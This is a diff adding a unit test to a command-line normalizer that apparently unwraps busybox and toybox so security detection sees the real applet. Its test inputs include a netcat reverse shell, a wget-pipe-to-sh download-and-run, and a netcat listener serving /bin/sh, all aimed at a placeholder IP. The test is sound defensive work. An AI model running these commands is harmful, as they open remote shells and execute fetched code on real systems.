@@ -90,4 +90,17 @@ class CommandLineNormalizerTest {
         assertThat(CommandLineNormalizer.normalize("/???/b??/un?me -a", false)).isEqualTo("/usr/bin/uname -a");
         assertThat(CommandLineNormalizer.normalize("ls /var/log/*.log", false)).isEqualTo("ls /var/log/*.log");
     }
+
+    @Test
+    void aMultiCallBinaryBeforeItsAppletIsReadAgainAsTheApplet() {
+        assertThat(CommandLineNormalizer.readings("bash -i 2>&1 | busybox nc 203.0.113.7 4444", false, false))
+                .containsExactly("bash -i 2>&1 | busybox nc 203.0.113.7 4444", "bash -i 2>&1 | nc 203.0.113.7 4444");
+        assertThat(CommandLineNormalizer.readings("/bin/busybox wget -qO- http://203.0.113.7/a | sh", false, false))
+                .containsExactly("/bin/busybox wget -qo- http://203.0.113.7/a | sh", "wget -qo- http://203.0.113.7/a | sh");
+        assertThat(CommandLineNormalizer.posixCased("toybox nc -L /bin/sh", 1)).isEqualTo("nc -L /bin/sh");
+        // a file or word that only holds the name is not the binary running an applet
+        assertThat(CommandLineNormalizer.readings("apt-get install busybox", false, false)).hasSize(1);
+        assertThat(CommandLineNormalizer.readings("cp busybox.tar /tmp", false, false)).hasSize(1);
+        assertThat(CommandLineNormalizer.readings("busybox", false, false)).hasSize(1);
+    }
 }
